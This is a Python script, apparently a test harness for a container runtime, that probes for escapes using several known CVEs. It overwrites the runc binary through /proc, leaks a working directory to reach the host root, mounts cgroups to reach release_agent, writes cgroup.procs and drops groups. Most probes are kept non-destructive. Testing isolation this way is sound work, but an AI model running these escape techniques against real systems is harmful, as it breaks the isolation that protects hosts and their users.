"""A program that tries to escape from a container; it prints one line for each success.

python3 -I -S attacker.py ATTACK [ARGUMENT …]

It imports nothing of the project, since it runs on the container's own Python.
"""

from __future__ import annotations

import ctypes
import errno
import os
import sys
import time

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 4.0
NEW_USER, NEW_MOUNTS, NEW_CGROUP = 0x10000000, 0x20000, 0x02000000


def name_of(code: int | None) -> str:
    return errno.errorcode.get(code or 0, str(code))


def overwrite(descriptor: int | str) -> None:
    """Write to the program of a descriptor, as soon as no process runs it.

    The byte written is the one already there. (CVE-2019-5736)
    """
    print("reached", os.readlink(f"/proc/self/fd/{descriptor}"), flush=True)
    deadline = time.monotonic() + SECONDS
    while True:
        try:
            written = os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY)
            os.pwrite(written, b"\x7f", 0)
        except OSError as error:
            if error.errno == errno.ETXTBSY and time.monotonic() < deadline:
                continue
            print("refused", name_of(error.errno), flush=True)
        else:
            print("WRITTEN", flush=True)
        return


def watch(seconds: str) -> None:
    """Look at the program and the descriptors of each new process.

    (CVE-2019-5736, CVE-2016-9962)
    """
    ours = os.stat("/").st_dev
    known = set(os.listdir("/proc"))
    deadline = time.monotonic() + float(seconds)
    print("watching", flush=True)
    while time.monotonic() < deadline:
        for entry in os.listdir("/proc"):
            if entry in known or not entry.isdigit():
                continue
            look_at(f"/proc/{entry}", ours)
    print("watched", flush=True)


def look_at(process: str, ours: int) -> None:
    try:
        program = os.open(f"{process}/exe", os.O_RDONLY)
    except OSError:
        pass
    else:
        if not is_our_own(program):
            overwrite(program)
        os.close(program)
    try:
        descriptors = os.listdir(f"{process}/fd")
    except OSError:
        return
    for descriptor in descriptors:
        try:
            reached = os.open(f"{process}/fd/{descriptor}/..", os.O_PATH | os.O_DIRECTORY)
        except OSError:
            continue
        if os.fstat(reached).st_dev not in {ours, os.stat("/proc").st_dev}:
            print("ESCAPED by", os.readlink(f"{process}/fd/{descriptor}"), flush=True)
        os.close(reached)


def is_our_own(program: int) -> bool:
    """Return True if a descriptor's file has its path in our own root."""
    try:
        path = os.readlink(f"/proc/self/fd/{program}")
        return os.path.samestat(os.fstat(program), os.stat(path))
    except OSError:
        return False


def up(marker: str) -> None:
    """Climb from the working directory to the host's root. (CVE-2024-21626)"""
    try:
        with open("../" * 40 + marker.lstrip("/")) as file:
            print("ESCAPED", file.read())
    except OSError as error:
        print("refused", name_of(error.errno))
    # An absolute path can't lead there, so a working directory must not either.
    print("stands in", os.getcwd())


def release_agent() -> None:
    """Make the kernel run a program of ours on the host. (CVE-2022-0492)"""
    for what, flags in (("user", NEW_USER | NEW_MOUNTS | NEW_CGROUP), ("cgroup", NEW_CGROUP)):
        pid = os.fork()
        if pid == 0:
            if LIBC.unshare(flags) < 0:
                print("refused namespace", what, name_of(ctypes.get_errno()), flush=True)
            mount_and_write()
            os._exit(0)
        os.waitpid(pid, 0)
    mount_and_write()


def mount_and_write() -> None:
    os.makedirs("/tmp/hierarchy", exist_ok=True)
    for kind, data in ((b"cgroup", b"memory"), (b"cgroup", b"none,name=attack"), (b"cgroup2", b"")):
        if LIBC.mount(b"none", b"/tmp/hierarchy", kind, 0, data) == 0:
            print("MOUNTED", kind.decode(), data.decode(), flush=True)
        else:
            print("refused mount", name_of(ctypes.get_errno()), flush=True)
    for directory, _, names in os.walk("/sys/fs/cgroup"):
        if "release_agent" in names:
            write(f"{directory}/release_agent")


def write(path: str) -> None:
    try:
        descriptor = os.open(path, os.O_WRONLY)
    except OSError as error:
        print("refused", name_of(error.errno), path, flush=True)
    else:
        print("WRITABLE", path, flush=True)
        os.close(descriptor)


def cgroups() -> None:
    """Write to the visible cgroups. (CVE-2023-25809)"""
    for directory, _, names in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" not in names:
            continue
        try:
            os.mkdir(f"{directory}/attack")
        except OSError as error:
            print("refused", name_of(error.errno), directory, flush=True)
        else:
            print("WRITABLE", directory, flush=True)
            os.rmdir(f"{directory}/attack")
        write(f"{directory}/cgroup.procs")


def drop_groups() -> None:
    """Leave a group that is denied access to a file. (CVE-2018-7169)"""
    with open("/proc/self/setgroups") as setgroups:
        print("setgroups", setgroups.read().strip())
    try:
        os.setgroups([])
    except OSError as error:
        print("refused", name_of(error.errno))
    else:
        print("DROPPED")


TRIES: dict[str, Callable[..., None]] = {
    "overwrite": overwrite,
    "watch": watch,
    "up": up,
    "release_agent": release_agent,
    "cgroups": cgroups,
    "drop_groups": drop_groups,
}
TRIES[sys.argv[1]](*sys.argv[2:])
